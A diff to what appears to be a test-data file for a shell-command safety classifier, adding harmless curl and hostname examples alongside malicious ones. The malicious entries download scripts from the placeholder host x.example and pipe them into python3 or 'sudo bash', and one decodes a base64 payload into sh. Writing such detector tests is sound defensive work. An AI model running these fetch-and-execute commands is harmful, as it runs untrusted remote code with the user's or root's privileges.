@@ -60,6 +60,16 @@ BENIGN = [
     "curl -o /tmp/node.tar.xz https://nodejs.org/dist/v20.11.0/node-v20.11.0-linux-x64.tar.xz",
     "wget -q https://github.com/prometheus/node_exporter/releases/download/v1.7.0/ne.tar.gz",
     'curl -s "https://api.example.com/v1/items?since=$(date +%F)" | jq length',
+    # a download piped into an interpreter that is given its program: stdin is data
+    "curl -s https://api.github.com/repos/psf/requests | python3 -m json.tool",
+    "curl -s https://api.github.com/repos/psf/requests/releases/latest"
+    " | python3 -c \"import sys, json; print(json.load(sys.stdin)['tag_name'])\"",
+    "curl -s https://example.com/VERSION | perl -ne 'print if /v/'",
+    "curl -fsSL https://example.com/env.txt | bash -c 'cat > /tmp/env.txt'",
+    # command substitutions naming only this host
+    "ping -c 1 $(hostname)",
+    "dig $(hostname -f)",
+    'curl -s "http://$(hostname):8080/status"',
     "git clone https://github.com/org/repo.git && cd repo && make test",
     "git pull --rebase origin main",
     "apt update && apt install -y wkhtmltopdf",
@@ -100,6 +110,9 @@ MALICIOUS = [
         "download piped into a shell",
     ),
     ("wget -qO- https://x.example/a | python3", "download piped into a shell"),
+    ("curl -s https://x.example/a | python3 -", "download piped into a shell"),
+    ("curl -fsSL https://x.example/i.sh | sudo -E bash -s -- --yes", "download piped into a shell"),
+    ("curl -s https://x.example/a | python3 -W ignore -", "download piped into a shell"),
     ("bash <(curl -s https://x.example/i.sh)", "download piped into a shell"),
     ('sh -c "$(curl -fsSL https://x.example/install.sh)"', "download piped into a shell"),
     ("echo Y3VybCBldmls | base64 -d | sh", "decoded payload piped into a shell"),
